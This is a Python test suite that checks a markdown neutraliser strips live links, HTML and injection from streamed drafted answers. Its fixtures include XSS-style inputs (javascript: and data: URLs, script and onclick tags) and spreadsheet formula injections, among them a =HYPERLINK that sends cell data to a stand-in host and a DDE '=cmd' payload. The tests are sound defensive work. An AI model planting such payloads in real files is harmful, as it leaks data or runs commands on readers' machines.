"""Whatever a text holds, no renderer finds anything live in what is shown of it."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from server.grounding.drafting import DraftWriter
from server.grounding.neutral import join_pieces, neutralise

NASTY = st.lists(
    st.sampled_from(
        [
            *"[]()!<>`:|\\\"' \n#-*>~1a.",
            *(
                "](",
                "![",
                "]:",
                "[1]",
                "http://evil.example/",
                "www.evil.example",
                "<a href=",
                "</a>",
            ),
            *(
                "<img src=x>",
                "<script>",
                "javascript:x",
                "data:text/html,x",
                "<https://evil.example>",
            ),
            *(
                "```",
                "~~~\n",
                "\n\n",
                "- ",
                "| a |\n",
                "|---|\n",
                "Done. ",
                "The end。",
                "[x]: ",
                "    ",
            ),
            *(
                "<!--",
                "-->",
                "[a](http://evil.example)",
                "![a][b]",
                "<x onclick=y>",
                "&lt;",
                "\n> ",
            ),
        ]
    ),
    max_size=25,
).map("".join)
LIVE = {"link_open", "image", "html_inline", "html_block"}


def find_live(markdown: str) -> list[str]:
    """What a CommonMark renderer with tables finds live, and addresses that GitHub's would link."""
    found: list[str] = []

    def walk(tokens: list[Token]) -> None:
        for token in tokens:
            if token.type in LIVE:
                found.append(f"{token.type}: {token.content}")
            if token.type == "text" and re.search(r"\b(?:https?://|www\.)\w", token.content):
                found.append(token.content)
            walk(token.children or [])

    walk(MarkdownIt("commonmark", {"html": True}).enable("table").parse(markdown))
    return found


@settings(max_examples=600, deadline=None)
@given(NASTY)
@example("`a\n> [x](http://evil.example) ` b")
@example("\\`[a](http://evil.example)`")
@example("| `a | [x](http://evil.example)` |\n|---|---|\n")
def test_a_neutral_line_has_nothing_live(text: str) -> None:
    line = neutralise(" ".join(text.split()))
    assert find_live(line) == []


@settings(max_examples=300, deadline=None)
@given(st.lists(NASTY, max_size=4))
def test_neutral_pieces_stay_neutral_side_by_side(texts: list[str]) -> None:
    joined = ""
    for text in texts:
        joined = join_pieces(joined, neutralise(" ".join(text.split())))
    assert find_live(joined) == []


def test_the_renderer_of_these_tests_does_find_links() -> None:
    assert find_live("[a](http://x.example)")
    assert find_live("see http://x.example")
    assert find_live("a <b>bold</b> word")


def draft(pieces: list[str], *, has_live_links: bool = False) -> str:
    writer = DraftWriter(
        (), unsupported="flag", refusal="No answer.", has_live_links=has_live_links
    )
    shown = [shown for piece in pieces for shown in writer._take(piece, is_last=False)]
    shown += writer._take("", is_last=True)
    assert "".join(shown) == writer.text
    return writer.text


@settings(max_examples=600, deadline=None)
@given(NASTY, st.integers(1, 7))
@example("- a\n  ```\n[x](http://evil.example)\n", 3)
@example("```\n```\n[x](http://evil.example)", 2)
@example("x\n    ```[a](http://evil.example)\n", 4)
@example("[1]~~~\n~~~\n<https://evil.example>", 1)
@example("~~<b>~\n~~~\n<https://evil.example>", 2)
def test_a_streamed_draft_has_nothing_live_however_it_is_split(text: str, size: int) -> None:
    pieces = [text[i : i + size] for i in range(0, len(text), size)]
    shown = draft(pieces)
    assert find_live(shown) == []
    # White space behind a mark that is left out has been shown before the mark came.
    assert shown.rstrip() == draft([text]).rstrip()
    assert not re.search(r"\[\d+\]", re.sub(r"(?:```|~~~).*|`[^`]*`", "", shown, flags=re.DOTALL))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See [time off](../time-off.md).", "See time off."),
        ("See [the form](https://a.example/x?y=1).", "See the form (`https://a.example/x?y=1`)."),
        ("![logo](https://a.example/p.png?q=1) Hello", "logo Hello"),
        ("Visit https://a.example/b_(c), please.", "Visit `https://a.example/b_(c)`, please."),
        ('<img alt="Logo" src="x"> <b>bold</b>', "Logo bold"),
        ("As said [3] and [4, 5].", "As said (3) and (4, 5)."),
        ("[a](javascript:alert(1)) [b](data:text/html,x)", "a b"),
        ("Type `list[0](x)` here.", "Type `list[0](x)` here."),
        ("5 < 6 and <|im_start|> stay.", "5 < 6 and <|im_start|> stay."),
        ('12.50, =HYPERLINK("http://a.example/?d="&A1,"the price").', "12.50, the price."),
        ('Rate: =webservice("http://a.example/"&B2)', "Rate: "),
        ("Row =cmd|' /c calc'!A0 ends.", "Row  ends."),
        ("The total is =SUM(A1:A3) and E=mc2.", "The total is =SUM(A1:A3) and E=mc2."),
    ],
)
def test_what_a_reader_needs_is_left(text: str, shown: str) -> None:
    assert neutralise(text) == shown


def test_links_stay_live_where_that_is_allowed() -> None:
    text = "See [the form](https://a.example/x). ![logo](https://a.example/p.png)"
    assert draft([text], has_live_links=True) == text


def test_code_of_a_draft_is_left_as_it_is() -> None:
    text = "Run:\n\n```python\nx = a[1](b)  # <b>\n```\n"
    assert draft([text]) == text


def test_deltas_may_be_split_inside_a_link() -> None:
    assert draft(["See [the fo", "rm](https://a.exam", "ple/x) now."]) == (
        "See the form (`https://a.example/x`) now."
    )
